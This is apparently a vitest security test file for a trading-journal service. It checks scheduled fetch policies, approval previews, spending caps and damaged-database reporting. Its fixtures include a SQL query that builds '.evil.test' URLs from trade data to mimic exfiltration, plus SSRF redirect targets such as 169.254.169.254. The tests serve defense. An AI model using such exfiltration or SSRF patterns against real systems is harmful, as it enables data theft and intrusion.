// What leaves the house, and what is spent: nothing that the person has not seen. Numbers are those of the list of attacks.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { createClient } from '@zorivest/contract';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openTestService, startTestService, type TestService, withAccount, withTrades } from '../test-service.ts';
import { paidModel } from '../outside.ts';

let service: TestService;
/** Everything that was asked for outside. */
const asked: string[] = [];
const redirects = new Map<string, string>();

const outside: typeof globalThis.fetch = (input) => {
  const url = String(input instanceof Request ? input.url : input);
  asked.push(url);
  const to = redirects.get(url);
  if (to !== undefined) return Promise.resolve(new Response(null, { status: 302, headers: { location: to } }));
  if (url.startsWith('http://model.test/')) {
    const usage = { input_tokens: 1000, output_tokens: 100 };
    return Promise.resolve(Response.json({ content: [{ type: 'text', text: 'Size was right.' }], usage }));
  }
  return Promise.resolve(new Response('a,b\n1,2\n', { headers: { 'content-type': 'text/csv' } }));
};

beforeAll(async () => {
  service = await openTestService({ fetch: outside });
  await withAccount(service.client);
  await withTrades(service.client, [
    ['E1', 'BOT', '2026-01-05T14:30:00Z', 100, 150, 'AAPL'],
    ['E2', 'SLD', '2026-01-05T15:30:00Z', 100, 151, 'AAPL'],
  ]);
});
afterAll(() => service.close());

const trigger = { cron_expression: '0 9 * * *', timezone: 'UTC', enabled: false };
const query = {
  id: 'q',
  type: 'query',
  params: { queries: [{ name: 'rows', sql: "select 'https://' || instrument || '.evil.test/' u from trades" }] },
};
const policy = (urls: unknown, more: object = {}) => ({
  name: 'Sends',
  schema_version: 2,
  trigger,
  steps: [query, { id: 'get', type: 'fetch', params: { urls, ...more } }],
});

describe('a policy that was not approved', () => {
  it('S2: cannot take an address from the book', async () => {
    for (const urls of [{ ref: 'ctx.q.results.rows' }, [{ ref: 'ctx.q.results.rows.0.u' }]]) {
      const tried = await service.client.scheduling.emulate({ body: { policy_json: policy(urls) } });
      expect(tried.valid).toBe(false);
      expect(JSON.stringify(tried.errors)).toContain('written out');
      await expect(
        service.client.scheduling.createPolicy({ body: { policy_json: policy(urls) } }),
      ).rejects.toMatchObject({
        status: 422,
      });
    }
  });

  it('S2: is tried without anything being fetched or looked up, by who may write and who may only read', async () => {
    const document = policy(['https://collect.test/{symbol}?note={symbol}'], {
      url_values: { symbol: { ref: 'ctx.q.results.rows.0.u' } },
    });
    const reader = service.as(await service.keyFor('read-write'));
    for (const client of [service.client, reader]) {
      const tried = await client.scheduling.emulate({ body: { policy_json: document } });
      expect(tried).toMatchObject({ valid: true });
      expect(JSON.stringify(tried)).toContain('made up');
    }
    const stored = await service.client.scheduling.createPolicy({ body: { policy_json: document } });
    const run = await service.client.scheduling.runPolicy({
      params: { policy_id: stored.id },
      body: { dry_run: true },
    });
    await expect
      .poll(async () => (await service.client.scheduling.getRun({ params: { run_id: run.run_id } })).status)
      .not.toBe('running');
    expect(asked).toEqual([]);
  });

  it('S2: shows the person who approves it where it goes, and what fills its address', async () => {
    const document = {
      ...policy(['https://collect.test/{symbol}'], { url_values: { symbol: { ref: 'ctx.q.results.rows.0.u' } } }),
      name: 'Shown',
    };
    const { id } = await service.client.scheduling.createPolicy({ body: { policy_json: document } });
    const preview = JSON.stringify(await service.person.scheduling.policyApproval({ params: { policy_id: id } }));
    expect(preview).toContain('https://collect.test/{symbol}');
    expect(preview).toContain('whatever ctx.q.results.rows.0.u is when it runs');
  });
});

describe('a policy that was approved', () => {
  const runApproved = async (urls: readonly string[], name: string) => {
    const { id } = await service.client.scheduling.createPolicy({ body: { policy_json: { ...policy(urls), name } } });
    const params = { policy_id: id };
    const { content_hash } = await service.person.scheduling.policyApproval({ params });
    await service.person.scheduling.approvePolicy({ params, body: { content_hash } });
    // By a key, with the person's yes: the card says afterwards what the run has left in the book.
    const { id: card } = await service.client.approvals.request({
      body: { operation: 'scheduling.runPolicy', params, body: {} },
    });
    const done = await service.person.approvals.decide({ params: { id: card }, body: { decision: 'approve' } });
    const { run_id } = done.result as { run_id: string };
    expect(done.changes.map(({ what }) => what)[0]).toMatch(
      new RegExp(`^adds the pipeline run ${run_id}, (success|failed)$`),
    );
    expect(done.changes.map(({ after }) => after?.['step_id'])).toContain('get');
    const get = () => service.person.scheduling.getRun({ params: { run_id } });
    await expect.poll(async () => (await get()).status).not.toBe('running');
    return get();
  };

  it('S12: downloads from an IPv4 host, and follows where that leads, but never to this machine or its network', async () => {
    asked.length = 0;
    redirects.set('https://8.8.8.8/a', 'https://9.9.9.9/b');
    expect((await runApproved(['https://8.8.8.8/a'], 'Follows')).status).toBe('success');
    expect(asked).toEqual(['https://8.8.8.8/a', 'https://9.9.9.9/b']);
    asked.length = 0;
    for (const [n, to] of ['https://169.254.169.254/x', 'http://9.9.9.9/x', 'https://[::ffff:10.0.0.1]/x'].entries()) {
      redirects.set('https://9.9.9.9/b', to);
      const run = await runApproved(['https://8.8.8.8/a'], `Refused ${n}`);
      expect(run.error).toMatch(/this machine or its network|https only/);
      expect(asked).not.toContain(to);
    }
  });
});

it('what a key uses of its budget is shown to the person, and to no one else', async () => {
  const { raw_key, key_id } = await service.person.auth.createKey({ body: { name: 'counted', role: 'read-write' } });
  const counted = service.as(raw_key);
  await counted.guard.check();
  const document = { ...policy(['https://prices.test/{symbol}'], { url_values: { symbol: 'AAPL' } }), name: 'Counted' };
  const { id } = await counted.scheduling.createPolicy({ body: { policy_json: document } });
  const own = async () => {
    const { limits, items } = await service.person.auth.budgets();
    expect(limits).toMatchObject({ sessions: 8, feeds: 4 });
    return items.find((item) => item.key_id === key_id);
  };
  expect(await own()).toMatchObject({ sessions: 1, feeds: 0, calls_last_hour: 1, cents_today: 0, addresses: [] });
  const params = { policy_id: id };
  const { content_hash } = await service.person.scheduling.policyApproval({ params });
  await service.person.scheduling.approvePolicy({ params, body: { content_hash } });
  expect(await own()).toMatchObject({ addresses: ['prices.test'] });
  expect((await counted.scheduling.addresses()).items).toContainEqual(
    expect.objectContaining({ host: 'prices.test', approved: true, key_id }),
  );
  await expect(counted.auth.budgets()).rejects.toMatchObject({ status: 403 });
  await expect(counted.app.start()).rejects.toMatchObject({ status: 403 });
  expect((await service.person.app.start()).guard.is_locked).toBe(false);
  // Left out where the book does not know it immediately.
  await expect.poll(async () => (await service.person.app.start()).accounts?.[0]?.account_id).toBe('U1');
});

describe('money', () => {
  const body = { trade_exec_id: 'E2', budget_cap: 100_000 };
  const setCap = (value: number) =>
    service.person.settings.set({ params: { key: 'providers.daily_cap_cents' }, body: { value } });

  it('S13: is not spent by a key that may only read, by role or by mode', async () => {
    await service.person.reviews.configure({ body: paidModel });
    await setCap(1000);
    asked.length = 0;
    const reader = service.as(await service.keyFor('read-only'));
    expect(await reader.reviews.request({ body })).toMatchObject({
      status: 'facts_only',
      not_asked: expect.stringContaining('cannot spend') as unknown,
    });
    const writing = await service.person.auth.createKey({ body: { name: 'held', role: 'read-write' } });
    await service.person.auth.setMode({ params: { key_id: writing.key_id }, body: { mode: 'read' } });
    expect(await service.as(writing.raw_key).reviews.request({ body })).toMatchObject({ status: 'facts_only' });
    expect(asked).toEqual([]);
  });

  it('S13: is asked for each time where the person has allowed none, or wants to see what a key does', async () => {
    await setCap(0);
    asked.length = 0;
    await expect(service.client.reviews.request({ body })).rejects.toMatchObject({ code: 'approval_required' });
    const asking = { operation: 'reviews.request', body: { trade_exec_id: 'E2', budget_cap: 50 } };
    const card = await service.client.approvals.request({ body: asking });
    expect(card).toMatchObject({ kind: 'outside', adds: false, status: 'waiting', changes: [] });
    expect(card.effects[0]).toContain(
      `${paidModel.model} at ${paidModel.endpoint} review the trade "E2", for at most 50 cents`,
    );
    expect(asked).toEqual([]);
    const decide = (id: string) => service.person.approvals.decide({ params: { id }, body: { decision: 'approve' } });
    expect(await decide(card.id)).toMatchObject({ status: 'approved', result: { status: 'reviewed' } });
    expect(asked.length).toBeGreaterThan(0);
    const { items } = await service.person.reviews.spending();
    expect(items.find(({ key_id }) => key_id === service.keyId)?.cents).toBeGreaterThan(0);
    // A yes is to one review: the next is asked for again.
    asked.length = 0;
    await expect(service.client.reviews.request({ body })).rejects.toMatchObject({ code: 'approval_required' });
    await setCap(1000);
    const held = await service.person.auth.createKey({ body: { name: 'asks', role: 'read-write' } });
    await service.person.auth.setMode({ params: { key_id: held.key_id }, body: { mode: 'ask' } });
    await expect(service.as(held.raw_key).reviews.request({ body })).rejects.toMatchObject({
      code: 'approval_required',
    });
    for (const [key, mode] of [
      [await service.keyFor('read-only'), 'read'],
      [held.raw_key, 'read'],
    ] as const) {
      if (key === held.raw_key) await service.person.auth.setMode({ params: { key_id: held.key_id }, body: { mode } });
      await expect(service.as(key).approvals.request({ body: asking })).rejects.toMatchObject({
        code: 'key_reads_only',
      });
    }
    // Who comes for somebody who may do less says so, and is held to it.
    const lesser = (mode: string) =>
      createClient({
        baseUrl: service.url,
        auth: { kind: 'key', apiKey: service.apiKey },
        headers: { 'x-zorivest-mode': mode },
      });
    expect(await lesser('read').reviews.request({ body })).toMatchObject({ status: 'facts_only' });
    await expect(lesser('ask').reviews.request({ body })).rejects.toMatchObject({ code: 'approval_required' });
    await expect(lesser('read').accounts.remove({ params: { account_id: 'U1' } })).rejects.toMatchObject({
      code: 'key_reads_only',
    });
    await service.person.guard.lock();
    await expect(service.client.reviews.request({ body })).rejects.toMatchObject({ code: 'guard_locked' });
    await service.person.guard.unlock();
    expect(asked).toEqual([]);
  });

  it('S13: is spent by keys up to what the person allows in a day, together, and counted over a restart', async () => {
    service.advance(86_400_000);
    asked.length = 0;
    await setCap(6);
    const other = service.as(await service.keyFor('read-write'));
    const outcomes: string[] = [];
    for (const client of [service.client, other, service.client, other, service.client, other]) {
      outcomes.push(
        await client.reviews.request({ body }).then(
          ({ status }) => status,
          ({ code }: { code: string }) => code,
        ),
      );
    }
    expect(outcomes).toContain('reviewed');
    expect(outcomes.at(-1)).toBe('spending_not_allowed');
    const { items, daily_cap_cents } = await service.person.reviews.spending();
    const spent = items.reduce((sum, { cents }) => sum + cents, 0);
    expect(daily_cap_cents).toBe(6);
    expect(spent).toBeGreaterThan(0);
    expect(spent).toBeLessThanOrEqual(6);
    await expect(
      service.client.settings.set({ params: { key: 'providers.daily_cap_cents' }, body: { value: 999 } }),
    ).rejects.toMatchObject({ status: 403 });
    service = await service.restart();
    await expect(service.client.reviews.request({ body })).rejects.toMatchObject({ code: 'spending_not_allowed' });
    // Their own money: the person's request is counted, and not refused.
    expect(await service.person.reviews.request({ body })).toMatchObject({ status: 'reviewed' });
    service.advance(2 * 86_400_000);
    expect(await service.client.reviews.request({ body })).toMatchObject({ status: 'reviewed' });
  });
});

it('S20: a damaged page in the middle of the book is reported by the read that meets it and by the drill', async () => {
  const damaged = await openTestService();
  await damaged.client.watchlists.create({ body: { name: 'Watched', description: '' } });
  await damaged.client.backups.create();
  const { connection } = damaged.service.app.store;
  const found = connection.prepare("select rootpage from sqlite_master where name = 'watchlists'").get();
  const { rootpage } = found as { readonly rootpage: number };
  await damaged.service.stop();
  const file = join(damaged.home, 'zorivest.db');
  const bytes = readFileSync(file);
  const at = (rootpage - 1) * 4096 + 2000;
  bytes[at] = (bytes[at] ?? 0) ^ 1;
  writeFileSync(file, bytes);
  const again = await startTestService(damaged.home, damaged.apiKey, damaged.keyId, {});
  // It opens: nothing else lies on that page.
  await again.client.accounts.list();
  await expect(again.client.watchlists.list()).rejects.toMatchObject({ status: 503, code: 'database_damaged' });
  const drill = await again.client.backups.drill();
  expect(drill).toMatchObject({
    status: 'failed',
    error: expect.stringContaining('the book itself is damaged') as unknown,
  });
  await again.close();
});
